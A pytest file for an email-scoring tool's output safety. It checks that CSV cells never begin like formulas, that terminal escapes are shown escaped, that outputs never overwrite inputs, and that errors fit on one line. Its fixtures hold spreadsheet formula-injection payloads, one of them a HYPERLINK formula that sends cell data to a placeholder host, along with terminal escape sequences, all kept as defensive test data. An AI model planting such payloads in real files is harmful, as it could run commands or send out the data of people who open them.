"""What a run writes is shown, never run; it never replaces an input; it fails in one line (issue 23)."""

import csv
import io
import json
import os
import socket
import threading
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from boundaryline.cli import main as cli
from boundaryline.predict import Scorer
from boundaryline.progress import TerminalReporter
from boundaryline.safe_text import from_spreadsheet, markdown_cell, printable, spreadsheet_cell
from boundaryline.scoring import ScoreOptions, score_inbox
from boundaryline.settings import Settings

ESC_TITLE = "\x1b]0;owned\x07\x1b[2J"  # set the terminal's title, then clear the screen
HOSTILE = [
    ("m1", '=HYPERLINK("http://x.example/?"&A1,"click")', "+1 call me", "Coffee next week?"),
    ("m2", "=cmd|' /C calc'!A0", "@SUM(1+1)", "Dinner, just us? You look great"),
    ("-3", "\t=1+1", "-minus", "Fourth email, why no reply??"),
    ("m4", f"Ana {ESC_TITLE}<ana@example.com>", "a | b\nc\rd", "Dinner, just us? You look great"),
    ("m5", "'quoted", "plain", "Coffee next week?"),
]


def hostile_inbox(path: Path) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "from", "subject", "text"])
        writer.writerows(HOSTILE)
    return path


@given(st.text())
def test_a_spreadsheet_cell_gives_back_its_text(text: str) -> None:
    cell = spreadsheet_cell(text)
    assert from_spreadsheet(cell) == text
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@given(st.text())
def test_printable_text_holds_nothing_a_terminal_acts_on(text: str) -> None:
    shown = printable(text)
    assert not any(ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F or c in "\u2028\u2029\u202e\u2066" for c in shown)
    assert "|" not in markdown_cell(text).replace("\\|", "")


def test_results_csv_cells_are_never_formulas_and_jsonl_keeps_the_text(
    tiny_trained: Settings, tiny_scorer: Scorer, tmp_path: Path
) -> None:
    inbox = hostile_inbox(tmp_path / "in.csv")
    for name in ("r.csv", "r.jsonl"):
        score_inbox(inbox, settings=tiny_trained, options=ScoreOptions(), scorer=tiny_scorer, out=tmp_path / name)
    with (tmp_path / "r.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    by_id = {from_spreadsheet(row["id"]): row for row in rows}
    assert by_id["m2"]["sender"] == "'=cmd|' /C calc'!A0" and by_id["-3"]["sender"].startswith("'")
    assert by_id["m5"]["sender"] == "''quoted"  # a leading quote is kept: the cell reads back as it was
    assert {k: from_spreadsheet(v) for k, v in by_id["m2"].items()}["subject"] == "@SUM(1+1)"
    raw = {row["id"]: row for row in map(json.loads, (tmp_path / "r.jsonl").read_text().splitlines())}
    assert raw["m2"]["sender"] == "=cmd|' /C calc'!A0" and raw["-3"]["subject"] == "-minus"


def test_summaries_and_the_terminal_show_escapes_never_act_on_them(
    tiny_trained: Settings, tiny_scorer: Scorer, tmp_path: Path
) -> None:
    inbox = hostile_inbox(tmp_path / "in.csv")
    out, err = io.StringIO(), io.StringIO()
    score_inbox(inbox, settings=tiny_trained, options=ScoreOptions(), scorer=tiny_scorer, out=tmp_path / "r.csv",
                reporter=TerminalReporter(out=out, err=err))  # fmt: skip
    markdown = (tmp_path / "r.summary.md").read_text(encoding="utf-8")
    for shown in (markdown, out.getvalue(), err.getvalue()):
        assert "\x1b" not in shown and "\x07" not in shown and "\r" not in shown
    assert "\\x1b]0;owned\\x07" in markdown
    # Every row of a table has as many cell borders as its header: no | or newline from a subject breaks it.
    for table in markdown.split("\n\n"):
        lines = [line for line in table.splitlines() if line.startswith("|")]
        borders = {line.replace("\\|", "").count("|") for line in lines}
        assert len(borders) <= 1, table
    assert "a \\| b c d" in markdown


def test_a_file_name_with_escapes_is_shown_escaped_in_errors(
    tiny_trained: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr("boundaryline.cli.get_settings", lambda: tiny_trained)
    assert cli(["score", str(tmp_path / f"in{ESC_TITLE}.csv"), "--out", str(tmp_path / "r.csv")]) == 2
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\\x1b]0;owned" in err and len(err.strip().splitlines()) == 1


@pytest.mark.parametrize("which", ["results", "summary.json", "summary.md", "hard link"])
def test_no_output_ever_replaces_an_input(
    which: str, tiny_trained: Settings, tiny_scorer: Scorer, tmp_path: Path
) -> None:
    inbox = hostile_inbox(tmp_path / "r.summary.json" if which == "summary.json" else tmp_path / "r.summary.md")
    if which == "results":
        inbox = inbox.rename(tmp_path / "r.csv")
    out = tmp_path / "r.csv"
    if which == "hard link":
        inbox = inbox.rename(tmp_path / "in.csv")
        os.link(inbox, tmp_path / "elsewhere.summary.md")
        out = tmp_path / "elsewhere.csv"
    before = inbox.read_bytes()
    with pytest.raises(ValueError, match="would write over"):
        score_inbox(inbox, settings=tiny_trained, options=ScoreOptions(), scorer=tiny_scorer, out=out)
    assert inbox.read_bytes() == before


def test_an_unwritable_results_folder_stops_the_run_before_scoring(
    tiny_trained: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr("boundaryline.cli.get_settings", lambda: tiny_trained)
    scored = []
    monkeypatch.setattr("boundaryline.scoring.parts.score_chunk", lambda *a: scored.append(1))
    (tmp_path / "taken").write_text("a file where the folder should be")
    inbox = hostile_inbox(tmp_path / "in.csv")
    assert cli(["score", str(inbox), "--out", str(tmp_path / "taken" / "r.csv")]) == 2
    err = capsys.readouterr().err
    assert "cannot write the results into" in err and "Traceback" not in err and len(err.strip().splitlines()) == 1
    assert not scored


def test_a_full_disk_is_one_line_and_leaves_no_temp_file(
    tiny_trained: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr("boundaryline.cli.get_settings", lambda: tiny_trained)

    def full_disk(self: object, piece: Path) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("boundaryline.scoring.output.ResultsWriter.append_piece", full_disk)
    inbox = hostile_inbox(tmp_path / "in.csv")
    out = tmp_path / "out" / "r.csv"
    assert cli(["score", str(inbox), "--out", str(out), "-q"]) == 2
    err = capsys.readouterr().err
    assert "No space left on device" in err and "Traceback" not in err
    assert sorted(p.name for p in out.parent.iterdir()) == []


def test_results_and_summaries_are_private(tiny_trained: Settings, tiny_scorer: Scorer, tmp_path: Path) -> None:
    old = os.umask(0o022)
    try:
        out = tmp_path / "out" / "r.csv"
        out.parent.mkdir()
        out.write_text("an earlier run, readable by all")
        out.chmod(0o644)
        score_inbox(hostile_inbox(tmp_path / "in.csv"), settings=tiny_trained, options=ScoreOptions(),
                    scorer=tiny_scorer, out=out)  # fmt: skip
    finally:
        os.umask(old)
    assert {p.name: p.stat().st_mode & 0o777 for p in out.parent.iterdir()} == {
        "r.csv": 0o600,
        "r.summary.json": 0o600,
        "r.summary.md": 0o600,
    }


def test_a_scheduler_that_is_not_dask_is_one_line(
    tiny_trained: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Another server on the port answers with bytes Dask takes for a frame length (once "3.07 EiB")."""
    pytest.importorskip("distributed")
    monkeypatch.setattr("boundaryline.cli.get_settings", lambda: tiny_trained)
    server = socket.create_server(("127.0.0.1", 0))
    port = server.getsockname()[1]

    def answer() -> None:
        server.settimeout(30)
        try:
            while True:
                connection, _ = server.accept()
                connection.sendall(b"\xff" * 64 + b"HTTP/1.1 400 Bad Request\r\n\r\n")
                connection.close()
        except OSError:
            return

    threading.Thread(target=answer, daemon=True).start()
    try:
        code = cli(["score", str(hostile_inbox(tmp_path / "in.csv")), "--out", str(tmp_path / "r.csv"), "-q",
                    "--engine", "dask", "--scheduler", f"tcp://127.0.0.1:{port}"])  # fmt: skip
    finally:
        server.close()
    err = capsys.readouterr().err
    assert code == 2 and "no Dask scheduler answered" in err and "Traceback" not in err
    assert not (tmp_path / "r.csv").exists()
